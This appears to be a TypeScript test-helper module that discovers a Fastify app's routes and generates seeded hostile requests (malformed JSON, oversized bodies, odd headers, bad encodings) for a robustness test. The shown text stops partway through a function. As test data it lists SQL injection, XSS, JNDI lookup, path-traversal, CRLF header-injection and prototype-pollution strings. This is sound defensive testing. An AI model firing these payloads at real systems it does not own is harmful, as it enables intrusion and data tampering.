import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import type { FastifyInstance } from 'fastify';

/**
 * Hostile requests for the fault test (hostile-payloads.test.ts): malformed, oversized and
 * odd payloads, paths, query strings, headers and methods against every route the app has.
 * Routes are discovered from the running app, never listed by hand; the cases come from a
 * seeded PRNG, so a run is the same every time and a failing case can be replayed.
 */

// ---------------------------------------------------------------------------------------------
// Deterministic randomness

export type Rng = () => number;

/** mulberry32: small, fast, good enough to pick cases; the same seed gives the same run. */
export function seededRng(seed: number): Rng {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** FNV-1a: a stable 32-bit number for a text (to give each route its own PRNG stream). */
export function hashText(text: string): number {
  let hash = 0x811c9dc5;
  for (let i = 0; i < text.length; i++) hash = Math.imul(hash ^ text.charCodeAt(i), 0x01000193);
  return hash >>> 0;
}

const pick = <T>(rng: Rng, list: readonly T[]): T => list[Math.floor(rng() * list.length)]!;

/** k distinct items of list, in list order (so the order of cases does not depend on the draw). */
function sampleOf<T>(rng: Rng, list: readonly T[], k: number): T[] {
  if (k >= list.length) return [...list];
  const chosen = new Set<number>();
  while (chosen.size < k) chosen.add(Math.floor(rng() * list.length));
  return [...chosen].sort((a, b) => a - b).map((i) => list[i]!);
}

// ---------------------------------------------------------------------------------------------
// Route discovery

/** The part of JSON Schema the routes' TypeBox schemas use (as the OpenAPI document shows it). */
export interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  additionalProperties?: boolean | JsonSchema;
  patternProperties?: Record<string, JsonSchema>;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  enum?: unknown[];
  const?: unknown;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  maxItems?: number;
  minItems?: number;
  maxProperties?: number;
  default?: unknown;
}

export interface RouteSpec {
  method: string;
  /** Fastify's pattern: /api/display/:clientId, /demo/:name/* */
  path: string;
  /** path parameters in order; '*' for a wildcard */
  params: string[];
  /** declared query parameters (from the OpenAPI document) */
  query: Record<string, JsonSchema>;
  requiredQuery: string[];
  /** the declared JSON body, when the OpenAPI document has one */
  body?: JsonSchema;
  /** listed in the OpenAPI document */
  documented: boolean;
}

interface OpenApiOperation {
  parameters?: Array<{ in: string; name: string; required?: boolean; schema?: JsonSchema }>;
  requestBody?: { content?: Record<string, { schema?: JsonSchema }> };
}

/**
 * Reads Fastify's radix tree (printRoutes) into method + path pairs. Each line's label is the
 * part of the path below its parent, so a route is the labels on its way from the root.
 */
export function parseRouteTree(tree: string): Array<{ method: string; path: string }> {
  const found: Array<{ method: string; path: string }> = [];
  const stack: string[] = [];
  for (const line of tree.split('\n')) {
    const match = /^((?:│ {3}| {4})*)(?:├── |└── )(.*?)(?: \(([^)]*)\))?$/.exec(line);
    if (!match) continue;
    const depth = match[1]!.length / 4;
    const label = match[2] === '(empty root node)' ? '' : match[2]!;
    stack.length = depth;
    stack[depth] = label;
    if (!match[3]) continue;
    let path = stack.join('');
    if (!path.startsWith('/')) path = `/${path}`;
    for (const method of match[3]
      .split(',')
      .map((m) => m.trim())
      .filter(Boolean))
      found.push({ method, path });
  }
  return found;
}

const paramNames = (path: string): string[] =>
  path.split('/').flatMap((segment) => (segment.startsWith(':') ? [segment.slice(1)] : segment === '*' ? ['*'] : []));

/**
 * Every route of the app: the route table (so nothing is missed, /api or not) joined with the
 * OpenAPI document (so each /api route's params, query and body schema are known).
 */
export async function discoverRoutes(app: FastifyInstance): Promise<RouteSpec[]> {
  const table = parseRouteTree(app.printRoutes());
  for (const { method, path } of table) {
    if (!app.hasRoute({ method: method as 'GET', url: path })) throw new Error(`route tree parsed wrong: ${method} ${path} is not a route`);
  }
  const docResponse = await app.inject({ method: 'GET', url: '/docs/json' });
  if (docResponse.statusCode !== 200) throw new Error(`no OpenAPI document: ${docResponse.statusCode}`);
  const doc = docResponse.json() as { paths: Record<string, Record<string, OpenApiOperation>> };

  const routes = new Map<string, RouteSpec>();
  for (const { method, path } of table) {
    routes.set(`${method} ${path}`, { method, path, params: paramNames(path), query: {}, requiredQuery: [], documented: false });
  }
  for (const [docPath, operations] of Object.entries(doc.paths)) {
    const path = docPath.replace(/\{([^}]+)\}/g, ':$1');
    for (const [lower, operation] of Object.entries(operations)) {
      const method = lower.toUpperCase();
      const key = `${method} ${path}`;
      const route = routes.get(key);
      if (!route) throw new Error(`the OpenAPI document lists ${key}, the route table does not`);
      route.documented = true;
      for (const parameter of operation.parameters ?? []) {
        if (parameter.in !== 'query') continue;
        route.query[parameter.name] = parameter.schema ?? {};
        if (parameter.required) route.requiredQuery.push(parameter.name);
      }
      const body = operation.requestBody?.content?.['application/json']?.schema;
      if (body) route.body = body;
      // HEAD answers GET's route with GET's query schema.
      const head = routes.get(`HEAD ${path}`);
      if (method === 'GET' && head) Object.assign(head, { query: route.query, requiredQuery: route.requiredQuery, documented: true });
    }
  }
  return [...routes.values()];
}

// ---------------------------------------------------------------------------------------------
// Valid values, so one hostile part at a time reaches as deep as it can

export interface CaseFixture {
  /** a real value for a path parameter of this route */
  param(route: RouteSpec, name: string, authenticated: boolean): string;
  /** a real value for a string property of a body or query, by its key; undefined for the generic one */
  string(key: string, authenticated: boolean): string | undefined;
  /** a complete valid body for this route, when the schema alone does not make one */
  body?(route: RouteSpec, authenticated: boolean): Record<string, unknown> | undefined;
  /** routes that also get their cases with a logged-in session (the session cookie is added by the runner) */
  authenticated(route: RouteSpec): boolean;
  /** values for a route's query that pass validation */
  validQuery?(route: RouteSpec): Record<string, string> | undefined;
  /** how hard the route is hit on its anonymous pass */
  tier(route: RouteSpec): Tier;
}

const STRING_CANDIDATES = ['main', 'format_1', 'abc', 'a', '1', 'x-1'];

function firstType(schema: JsonSchema): string | undefined {
  return Array.isArray(schema.type) ? schema.type.find((t) => t !== 'null') : schema.type;
}

/** A value the schema accepts, preferring the fixture's real ids and the schema's defaults. */
export function sampleValue(schema: JsonSchema, key: string, fixture: CaseFixture, authenticated: boolean, depth = 0): unknown {
  if (schema.const !== undefined) return schema.const;
  if (schema.enum?.length) return schema.enum[0];
  const union = schema.anyOf ?? schema.oneOf;
  if (union?.length) return sampleValue(union[0]!, key, fixture, authenticated, depth);
  switch (firstType(schema)) {
    case 'string': {
      const real = fixture.string(key, authenticated);
      const pattern = schema.pattern ? new RegExp(schema.pattern) : null;
      const fits = (s: string) => (!pattern || pattern.test(s)) && s.length <= (schema.maxLength ?? Infinity) && s.length >= (schema.minLength ?? 0);
      if (real !== undefined && fits(real)) return real;
      const candidate = STRING_CANDIDATES.find(fits);
      if (candidate !== undefined) return candidate;
      return 'x'.repeat(Math.max(1, schema.minLength ?? 1));
    }
    case 'integer':
    case 'number':
      return typeof schema.default === 'number' ? schema.default : Math.max(schema.minimum ?? 0, Math.min(1, schema.maximum ?? 1));
    case 'boolean':
      return false;
    case 'null':
      return null;
    case 'array':
      return schema.minItems && schema.items
        ? Array.from({ length: schema.minItems }, () => sampleValue(schema.items!, key, fixture, authenticated, depth + 1))
        : [];
    case 'object':
    default: {
      if (depth > 8) return {};
      const out: Record<string, unknown> = {};
      for (const name of schema.required ?? []) {
        const property = schema.properties?.[name];
        out[name] = property ? sampleValue(property, name, fixture, authenticated, depth + 1) : 'x';
      }
      return out;
    }
  }
}

export function validBody(route: RouteSpec, fixture: CaseFixture, authenticated: boolean): Record<string, unknown> | undefined {
  const given = fixture.body?.(route, authenticated);
  if (given) return structuredClone(given);
  if (!route.body) return undefined;
  const value = sampleValue(route.body, '', fixture, authenticated);
  return value && typeof value === 'object' && !Array.isArray(value) ? (value as Record<string, unknown>) : undefined;
}

/** Every place in a body schema a value can go: properties, array items, record keys. */
export function schemaPaths(schema: JsonSchema, maxDepth = 4): Array<{ path: string[]; schema: JsonSchema; required: boolean }> {
  const out: Array<{ path: string[]; schema: JsonSchema; required: boolean }> = [];
  const walk = (node: JsonSchema, path: string[], depth: number) => {
    if (depth >= maxDepth) return;
    const union = node.anyOf ?? node.oneOf;
    if (union) for (const option of union) walk(option, path, depth);
    for (const [name, property] of Object.entries(node.properties ?? {})) {
      const next = [...path, name];
      out.push({ path: next, schema: property, required: (node.required ?? []).includes(name) });
      walk(property, next, depth + 1);
    }
    for (const [pattern, property] of Object.entries(node.patternProperties ?? {})) {
      const key = STRING_CANDIDATES.find((c) => new RegExp(pattern).test(c)) ?? 'k';
      const next = [...path, key];
      out.push({ path: next, schema: property, required: false });
      walk(property, next, depth + 1);
    }
    // A key the schema does not name: checked against additionalProperties, or not at all when that is true.
    if (node.additionalProperties && (node.properties || typeof node.additionalProperties === 'object')) {
      const next = [...path, 'extra_field'];
      out.push({ path: next, schema: typeof node.additionalProperties === 'object' ? node.additionalProperties : {}, required: false });
    }
    if (node.items) {
      const next = [...path, '0'];
      out.push({ path: next, schema: node.items, required: false });
      walk(node.items, next, depth + 1);
    }
  };
  walk(schema, [], 0);
  return out;
}

// ---------------------------------------------------------------------------------------------
// Hostile values

/** A hostile JSON value as raw text, so it can hold what JSON.stringify would never write. */
export interface RawValue {
  label: string;
  raw: string;
}

const POLLUTION_MARK = 'beckonPolluted';
export const POLLUTION_KEYS = [POLLUTION_MARK, 'polluted', 'isAdmin'];

const json = (label: string, value: unknown): RawValue => ({ label, raw: JSON.stringify(value) });
const deepArray = (n: number) => '['.repeat(n) + ']'.repeat(n);
const deepObject = (n: number) => '{"a":'.repeat(n) + '1' + '}'.repeat(n);
const manyKeys = (n: number) => `{${Array.from({ length: n }, (_, i) => `"k${i}":${i}`).join(',')}}`;

/** 100k characters: over the 64 KiB body limit on its own. */
export const HUGE_STRING = 'H'.repeat(100_000);
/** just under the body limit, so it reaches validation */
export const BIG_STRING = 'B'.repeat(60_000);

export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '0',
  '-1',
  'null',
  'undefined',
  'true',
  'NaN',
  '[]',
  '{}',
  '[object Object]',
  "' OR 1=1 --",
  "'; DROP TABLE conversions; --",
  '" OR ""="',
  '1) OR (1=1',
  '\\',
  "\\'",
  '%',
  '\u0000',
  'a\u0000b',
  '%00',
  '\ud800',
  '\udfff\ud800',
  '\u202e\u0645\u0631\u062d\u0628\u0627',
  '😀👩‍👩‍👧‍👦🏳️‍🌈',
  'e\u0301'.repeat(2000),
  '\uFEFF',
  '\uFFFF',
  '\r\nSet-Cookie: owned=1',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  '<%= 7*7 %>',
  'http://[::1',
  'https://',
  '//evil.example',
  'mailto:a@b',
  'a@b',
  '@',
  'a'.repeat(300) + '@example.com',
  'ADA@EXAMPLE.COM ',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'x'.repeat(8193),
  'x'.repeat(70_000),
];

export const HOSTILE_RAW: readonly RawValue[] = [
  { label: 'null', raw: 'null' },
  { label: 'true', raw: 'true' },
  { label: 'false', raw: 'false' },
  { label: 'zero', raw: '0' },
  { label: 'negative', raw: '-1' },
  { label: 'fraction', raw: '1.5' },
  { label: 'negative zero', raw: '-0' },
  { label: 'huge number', raw: '1e308' },
  { label: 'overflow to Infinity', raw: '1e309' },
  { label: 'overflow to -Infinity', raw: '-1e309' },
  { label: 'underflow', raw: '1e-400' },
  { label: 'unsafe integer', raw: '9007199254740993' },
  { label: '30-digit integer', raw: '123456789012345678901234567890' },
  { label: 'empty array', raw: '[]' },
  { label: 'array of null', raw: '[null]' },
  { label: 'nested arrays', raw: '[[[]]]' },
  { label: 'array of strings', raw: '["a","b"]' },
  { label: 'array of objects', raw: '[{},{}]' },
  { label: '1000-item array', raw: JSON.stringify(Array.from({ length: 1000 }, (_, i) => `i${i}`)) },
  { label: 'empty object', raw: '{}' },
  { label: 'object', raw: '{"a":1}' },
  { label: 'mongo operator', raw: '{"$gt":""}' },
  { label: 'toString/valueOf object', raw: '{"toString":"x","valueOf":1,"toJSON":2}' },
  { label: '__proto__ object', raw: `{"__proto__":{"${POLLUTION_MARK}":"yes","polluted":"yes"}}` },
  { label: 'constructor.prototype object', raw: `{"constructor":{"prototype":{"${POLLUTION_MARK}":"yes"}}}` },
  { label: 'prototype object', raw: `{"prototype":{"${POLLUTION_MARK}":"yes"}}` },
  { label: '2000-key object', raw: manyKeys(2000) },
  { label: '10k-deep array', raw: deepArray(10_000) },
  { label: '10k-deep object', raw: deepObject(10_000) },
  { label: '100k string', raw: JSON.stringify(HUGE_STRING) },
  { label: '60k string', raw: JSON.stringify(BIG_STRING) },
  { label: 'NUL in a string', raw: JSON.stringify('a\u0000b') },
  { label: 'lone surrogate', raw: '"x\\ud800y"' },
  ...HOSTILE_STRINGS.map((s, i) => json(`string #${i} ${JSON.stringify(s.slice(0, 24))}${s.length > 24 ? `…(${s.length})` : ''}`, s)),
];

/** Values that break the property's own limits: one past maxLength, outside min/max, off-pattern, off-enum. */
function boundaryValues(schema: JsonSchema): RawValue[] {
  const out: RawValue[] = [];
  if (schema.maxLength !== undefined) out.push(json(`maxLength+1 (${schema.maxLength + 1})`, 'm'.repeat(schema.maxLength + 1)));
  if (schema.minLength) out.push(json('minLength-1', 'm'.repeat(schema.minLength - 1)));
  if (schema.minimum !== undefined) out.push({ label: 'below minimum', raw: String(schema.minimum - 1) });
  if (schema.maximum !== undefined) out.push({ label: 'above maximum', raw: String(schema.maximum + 1) });
  if (schema.maxItems !== undefined) out.push({ label: 'maxItems+1', raw: JSON.stringify(Array.from({ length: schema.maxItems + 1 }, () => 'i')) });
  if (schema.pattern) out.push(json('pattern miss (uppercase)', 'ABCDEFGHIJKLM'), json('pattern miss (with slash)', 'abc/def'));
  if (schema.enum || schema.const !== undefined || schema.anyOf) out.push(json('not one of the allowed values', 'not_an_allowed_value'));
  if (firstType(schema) === 'integer') out.push({ label: 'fraction for integer', raw: '2.5' }, json('numeric string', '12'));
  if (firstType(schema) === 'boolean') out.push(json('"true" string', 'true'), json('"yes" string', 'yes'), { label: 'one', raw: '1' });
  return out;
}

// ---------------------------------------------------------------------------------------------
// Building request bodies with one hostile part

const SLOT = '@@HOSTILE_SLOT@@';

function setAt(target: Record<string, unknown>, path: string[], value: unknown): void {
  let node: Record<string, unknown> | unknown[] = target;
  for (let i = 0; i < path.length - 1; i++) {
    const key = path[i]!;
    const nextIsIndex = /^\d+$/.test(path[i + 1]!);
    const current = (node as Record<string, unknown>)[key];
    if (current === null || typeof current !== 'object') (node as Record<string, unknown>)[key] = nextIsIndex ? [] : {};
    node = (node as Record<string, unknown>)[key] as Record<string, unknown> | unknown[];
  }
  (node as Record<string, unknown>)[path[path.length - 1]!] = value;
}

function deleteAt(target: Record<string, unknown>, path: string[]): void {
  let node: unknown = target;
  for (const key of path.slice(0, -1)) node = node && typeof node === 'object' ? (node as Record<string, unknown>)[key] : undefined;
  if (node && typeof node === 'object') delete (node as Record<string, unknown>)[path[path.length - 1]!];
}

/** The valid body with raw text at path (a slot string is placed, serialised, then replaced). */
export function bodyWith(valid: Record<string, unknown>, path: string[], raw: string): string {
  const body = structuredClone(valid);
  setAt(body, path, SLOT);
  return JSON.stringify(body).replace(JSON.stringify(SLOT), () => raw);
}

/** The valid body with extra raw key:value pairs inside the object at path (root when empty). */
function bodyWithKeys(valid: Record<string, unknown>, path: string[], pairs: string): string {
  const body = structuredClone(valid);
  if (path.length) setAt(body, path, {});
  const text = JSON.stringify(body);
  if (!path.length) return text === '{}' ? `{${pairs}}` : `{${pairs},${text.slice(1)}`;
  const marker = `${JSON.stringify(path[path.length - 1])}:{}`;
  const at = text.lastIndexOf(marker);
  return at < 0 ? text : `${text.slice(0, at + marker.length - 1)}${pairs}${text.slice(at + marker.length - 1)}`;
}

/** encodeURIComponent, except that a lone surrogate becomes its (invalid) three UTF-8 bytes instead of throwing. */
export function encodeLoose(text: string): string {
  let out = '';
  for (const char of text) {
    const code = char.codePointAt(0)!;
    out +=
      code >= 0xd800 && code <= 0xdfff
        ? [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 63), 0x80 | (code & 63)].map((b) => `%${b.toString(16).toUpperCase()}`).join('')
        : encodeURIComponent(char);
  }
  return out;
}

const form = (entries: Array<[string, string]>) => entries.map(([k, v]) => `${encodeLoose(k)}=${encodeLoose(v)}`).join('&');

const flatStrings = (body: Record<string, unknown>): Array<[string, string]> =>
  Object.entries(body).map(([k, v]) => [k, typeof v === 'string' ? v : JSON.stringify(v)]);

// ---------------------------------------------------------------------------------------------
// Cases

export interface HostileCase {
  /** stable across dialects and runs: method, route pattern, what is hostile */
  id: string;
  method: string;
  url: string;
  headers: Record<string, string>;
  payload?: string | Buffer;
  /** the runner adds the logged-in session cookie */
  authenticated: boolean;
  route: string;
}

const BODY_METHODS = new Set(['POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS']);
const ALL_METHODS = ['GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'PROPFIND', 'TRACE', 'SEARCH', 'LOCK'];

/** Path segment values: raw text placed in the URL as is (some encoded, some deliberately not). */
export const HOSTILE_PATH_VALUES: ReadonlyArray<{ label: string; segment: string }> = [
  { label: 'empty', segment: '' },
  { label: '64 chars', segment: 'a'.repeat(64) },
  { label: '65 chars', segment: 'a'.repeat(65) },
  { label: '101 chars (over maxParamLength)', segment: 'b'.repeat(101) },
  { label: '5000 chars', segment: 'c'.repeat(5000) },
  { label: '../ raw', segment: '../../etc/passwd' },
  { label: '..%2F encoded', segment: '..%2F..%2Fetc%2Fpasswd' },
  { label: '%2e%2e', segment: '%2e%2e' },
  { label: 'double-encoded ../', segment: '%252e%252e%252f' },
  { label: '%00', segment: '%00' },
  { label: 'abc%00def', segment: 'abc%00def' },
  { label: 'lone %', segment: '%' },
  { label: 'bad escape %zz', segment: '%zz' },
  { label: 'truncated UTF-8 escape', segment: '%E0%A4%A' },
  { label: 'overlong UTF-8 escape', segment: '%C0%AF' },
  { label: 'invalid UTF-8 escape', segment: '%FF%FE' },
  { label: 'unicode raw', segment: 'héllo✓' },
  { label: 'unicode encoded', segment: encodeURIComponent('שלום😀') },
  { label: 'RTL override', segment: encodeURIComponent('\u202eabc') },
  { label: 'SQL', segment: encodeURIComponent("' OR 1=1 --") },
  { label: 'SQL raw', segment: "'%20OR%201=1%20--" },
  { label: 'semicolon', segment: 'abc;def' },
  { label: 'encoded slash', segment: 'abc%2Fdef' },
  { label: 'backslash', segment: 'abc%5C..%5Cdef' },
  { label: '__proto__', segment: '__proto__' },
  { label: 'constructor', segment: 'constructor' },
  { label: 'null', segment: 'null' },
  { label: 'negative number', segment: '-1' },
  { label: 'uppercase 13', segment: 'ABCDEFGHIJKLM' },
  { label: 'script', segment: encodeURIComponent('<script>alert(1)</script>') },
  { label: 'space', segment: 'a%20b' },
  { label: 'newline', segment: 'a%0D%0Ab' },
  { label: 'star', segment: '*' },
  { label: 'dot', segment: '.' },
];

/** Whole query strings (without the ?) that no route declares. */
const GARBAGE_QUERIES: ReadonlyArray<{ label: string; query: string }> = [
  { label: 'repeated key', query: 'a=1&a=2&a=3' },
  { label: 'array syntax', query: 'a[]=1&a[]=2' },
  { label: 'nested syntax', query: 'a[b][c][d]=1' },
  { label: '__proto__ bracket', query: `__proto__[${POLLUTION_MARK}]=1` },
  { label: '__proto__ dot', query: `__proto__.${POLLUTION_MARK}=1` },
  { label: 'constructor.prototype', query: `constructor[prototype][${POLLUTION_MARK}]=1` },
  { label: 'bad escapes', query: '%zz=%&%=%E0%A4%A' },
  { label: 'only separators', query: '&&&===&=&' },
  { label: '%00', query: 'a=%00&%00=b' },
  { label: '1000 keys', query: Array.from({ length: 1000 }, (_, i) => `k${i}=${i}`).join('&') },
  { label: '8000-char value', query: `a=${'q'.repeat(8000)}` },
  { label: 'unicode', query: `a=${encodeURIComponent('שלום😀\u202e')}` },
  { label: 'raw unicode', query: 'a=héllo' },
  { label: 'hash', query: 'a=1#frag' },
  { label: 'question marks', query: '??a=1?b=2' },
];

/** Top-level string properties whose valid value is itself a JSON array or object. */
export function jsonStringPaths(valid: Record<string, unknown>): Array<{ path: string[]; text: string }> {
  return Object.entries(valid).flatMap(([key, value]) => {
    if (typeof value !== 'string' || !/^\s*[[{]/.test(value)) return [];
    try {
      JSON.parse(value);
      return [{ path: [key], text: value }];
    } catch {
      return [];
    }
  });
}

/** Hostile JSON texts to put inside a JSON-carrying string: wrong shapes, and each inner value replaced. */
export function jsonStringVariants(text: string, rng: Rng): Array<{ label: string; inner: string }> {
  const parsed = JSON.parse(text) as unknown;
  const out: Array<{ label: string; inner: string }> = [
    { label: 'not JSON', inner: text.slice(0, -1) },
    { label: 'empty', inner: '' },
    ...HOSTILE_RAW.filter((v) => v.raw.length < 30_000 && (CORE_LABELS.has(v.label) || !v.label.startsWith('string #'))).map((v) => ({
      label: v.label,
      inner: v.raw,
    })),
    {
      label: '1000 copies of the first entry',
      inner: Array.isArray(parsed) && parsed.length ? JSON.stringify(Array.from({ length: 1000 }, () => parsed[0])) : '[]',
    },
  ];
  if (parsed && typeof parsed === 'object') {
    for (const path of valuePaths(parsed, new Set())) {
      const small = HOSTILE_RAW.filter((v) => v.raw.length < 30_000);
      for (const { label, raw } of [
        ...small.filter((v) => CORE_LABELS.has(v.label)),
        ...sampleOf(
          rng,
          small.filter((v) => !CORE_LABELS.has(v.label)),
          3,
        ),
      ]) {
        out.push({ label: `${path.join('.')} = ${label}`, inner: bodyWith(parsed as Record<string, unknown>, path, raw) });
      }
      out.push({
        label: `${path.join('.')} = __proto__ object`,
        inner: bodyWith(parsed as Record<string, unknown>, path, `{"__proto__":{"${POLLUTION_MARK}":"yes"}}`),
      });
    }
  }
  return out;
}

/** Query values every declared parameter gets; the rest are drawn by the PRNG. */
const CORE_QUERY_LABELS = new Set(['missing', 'array syntax', 'huge number', '%00']);

/** Hostile values for a declared query parameter: name=value pairs (already encoded). */
function queryVariants(name: string, valid: string): Array<{ label: string; pairs: string }> {
  const n = encodeURIComponent(name);
  const e = encodeURIComponent;
  return [
    { label: 'missing', pairs: '' },
    { label: 'empty', pairs: `${n}=` },
    { label: 'no value', pairs: n },
    { label: 'repeated', pairs: `${n}=${e(valid)}&${n}=${e(valid)}` },
    { label: 'repeated different', pairs: `${n}=${e(valid)}&${n}=other` },
    { label: 'array syntax', pairs: `${n}[]=${e(valid)}` },
    { label: 'indexed syntax', pairs: `${n}[0]=${e(valid)}` },
    { label: 'object syntax', pairs: `${n}[a]=${e(valid)}` },
    { label: 'bad escape', pairs: `${n}=%zz` },
    { label: '%00', pairs: `${n}=%00` },
    { label: 'value with %00', pairs: `${n}=${e(valid)}%00` },
    { label: 'lone surrogate escape', pairs: `${n}=%ED%A0%80` },
    { label: 'huge', pairs: `${n}=${'z'.repeat(10_000)}` },
    { label: 'negative', pairs: `${n}=-1` },
    { label: 'huge number', pairs: `${n}=1e309` },
    { label: 'unsafe integer', pairs: `${n}=9007199254740993` },
    { label: 'fraction', pairs: `${n}=1.5` },
    { label: 'SQL', pairs: `${n}=${e("' OR 1=1 --")}` },
    { label: 'unicode', pairs: `${n}=${e('שלום😀')}` },
    { label: 'true', pairs: `${n}=true` },
  ];
}

/** Header sets sent with an otherwise valid request. */
function headerVariants(hasBody: boolean): Array<{ label: string; headers: Record<string, string> }> {
  const variants: Array<{ label: string; headers: Record<string, string> }> = [
    { label: 'garbage session cookie', headers: { cookie: 'beckon_session=garbage' } },
    { label: 'long session cookie', headers: { cookie: `beckon_session=${'s'.repeat(4000)}` } },
    { label: 'SQL session cookie', headers: { cookie: "beckon_session=' OR 1=1 --" } },
    { label: 'session cookie %00', headers: { cookie: 'beckon_session=%00' } },
    { label: 'session cookie bad escape', headers: { cookie: 'beckon_session=%zz%' } },
    { label: 'session cookie twice', headers: { cookie: 'beckon_session=a; beckon_session=b' } },
    { label: 'malformed cookie header', headers: { cookie: '=;;;=; beckon_session; ;=x' } },
    { label: 'latin1 cookie', headers: { cookie: 'beckon_session=\u00ff\u00fe' } },
    { label: 'garbage accept-encoding', headers: { 'accept-encoding': 'gzip;q=abc, br;q=-1, *;q=x, , ;' } },
    { label: 'refuse every encoding', headers: { 'accept-encoding': 'identity;q=0, *;q=0' } },
    { label: 'long accept-encoding', headers: { 'accept-encoding': 'x'.repeat(8000) } },
    { label: 'garbage accept-language', headers: { 'accept-language': ',,,;;;q=,*;q=abc' } },
    { label: 'long accept-language', headers: { 'accept-language': 'en-'.repeat(3000) } },
    { label: 'empty host', headers: { host: '' } },
    { label: 'script host', headers: { host: '"><script>alert(1)</script>' } },
    { label: 'long host', headers: { host: 'h'.repeat(2000) } },
    { label: 'bad port host', headers: { host: 'localhost:99999999' } },
    { label: 'unclosed IPv6 host', headers: { host: '[::1' } },
    { label: 'javascript referer', headers: { referer: 'javascript:alert(1)' } },
    { label: 'unparseable referer', headers: { referer: 'http://[::1' } },
    { label: 'long referer', headers: { referer: `https://x.example/${'r'.repeat(8000)}` } },
    { label: 'null origin', headers: { origin: 'null' } },
    { label: 'garbage origin', headers: { origin: '%%%://\u00ff' } },
    {
      label: 'garbage forwarded headers',
      headers: { 'x-forwarded-for': "1.2.3.4, ' OR 1=1, ::ffff:zz", 'x-forwarded-host': '"><x>', 'x-forwarded-proto': 'gopher' },
    },
    { label: 'one 14 KB header', headers: { 'x-filler': 'f'.repeat(14_000) } },
    { label: '100 headers', headers: Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`x-h-${i}`, `v${i}`])) },
    { label: 'garbage range', headers: { range: 'bytes=abc-def, -0, 999999999999-' } },
    { label: 'unsatisfiable range', headers: { range: 'bytes=99999999-' } },
    { label: 'many ranges', headers: { range: `bytes=${Array.from({ length: 200 }, (_, i) => `${i}-${i}`).join(',')}` } },
    {
      label: 'garbage conditional headers',
      headers: { 'if-none-match': '"' + 'e'.repeat(500), 'if-modified-since': 'yesterday-ish', 'if-match': '*,,,', 'if-unmodified-since': '0' },
    },
    { label: 'garbage accept', headers: { accept: 'application/xml;q=x, */*;q=-1' } },
    { label: 'garbage authorization', headers: { authorization: `Bearer ${'t'.repeat(3000)}` } },
    { label: 'country header', headers: { 'cf-ipcountry': "' OR 1=1", 'x-country': '\u00ff' } },
  ];
  if (hasBody) {
    variants.push(
      { label: 'content-length too big', headers: { 'content-length': '99999' } },
      { label: 'content-length too small', headers: { 'content-length': '1' } },
      { label: 'content-length not a number', headers: { 'content-length': 'abc' } },
      { label: 'unknown content-encoding', headers: { 'content-encoding': 'x-unknown' } },
      { label: 'content-encoding gzip on a plain body', headers: { 'content-encoding': 'gzip' } },
      { label: 'content-encoding br on a plain body', headers: { 'content-encoding': 'br' } },
      { label: 'content-encoding deflate on a plain body', headers: { 'content-encoding': 'deflate' } },
      { label: 'content-encoding gzip twice', headers: { 'content-encoding': 'gzip, gzip' } },
      { label: 'content-encoding identity', headers: { 'content-encoding': 'identity' } },
    );
  }
  return variants;
}

/** Content types for a valid JSON body; which of them a route accepts is the route's business. */
const CONTENT_TYPES: readonly string[] = [
  'application/json',
  'text/plain',
  'text/plain; charset=utf-8',
  'text/plain; charset=utf-16le',
  'application/json; charset=utf-16',
  'application/json; charset="',
  'application/json;;;',
  'APPLICATION/JSON',
  'Application/Json ; Charset=UTF-8',
  'application/json, text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=----x',
  'application/octet-stream',
  'application/xml',
  'text/html',
  'image/png',
  '*/*',
  'garbage',
  ';',
  'application/',
  'text/plain; ' + 'p=1; '.repeat(1000),
  'application/vnd.api+json',
  'application/problem+json',
  'application/x-ndjson',
];

const INVALID_JSON: readonly string[] = [
  '{',
  '{"a":',
  '[',
  '}{',
  '{}{}',
  '{"a":1,}',
  "{'a':1}",
  'nul',
  'NaN',
  'undefined',
  'Infinity',
  '{"a":01}',
  '{"a":"\\x"}',
  '{"a":"\\u12"}',
  '{"a" 1}',
  '{a:1}',
  '"unterminated',
  '\u0000',
  '{}garbage',
  '\uFEFF{}',
  '/* c */{}',
  '{"a":1}//',
  '[1,2',
  '{"__proto__":',
  'a'.repeat(1000),
  '{"a":' + '['.repeat(5000),
];

/** Whole bodies that are valid JSON but not what any route takes. */
const WRONG_JSON_BODIES: readonly RawValue[] = [
  { label: 'null', raw: 'null' },
  { label: 'array', raw: '[]' },
  { label: 'array of object', raw: '[{}]' },
  { label: 'string', raw: '"x"' },
  { label: 'number', raw: '0' },
  { label: 'true', raw: 'true' },
  { label: 'empty object', raw: '{}' },
  { label: '10k-deep array', raw: deepArray(10_000) },
  { label: '10k-deep object', raw: deepObject(10_000) },
  { label: '3000-key object', raw: manyKeys(3000) },
  { label: '__proto__ only', raw: `{"__proto__":{"${POLLUTION_MARK}":"yes"}}` },
  { label: 'constructor.prototype only', raw: `{"constructor":{"prototype":{"${POLLUTION_MARK}":"yes"}}}` },
];

function formPayloads(valid: Record<string, unknown> | undefined): Array<{ label: string; payload: string }> {
  const entries = valid ? flatStrings(valid) : [['a', '1'] as [string, string]];
  const first = entries[0]?.[0] ?? 'a';
  return [
    { label: 'valid fields', payload: form(entries) },
    { label: 'garbage', payload: '%%%&&&===' },
    { label: 'bad escapes', payload: 'a=%zz&%E0%A4%A=1' },
    { label: 'only separators', payload: '=&=&&==' },
    { label: 'repeated keys', payload: `${form(entries)}&${form(entries)}` },
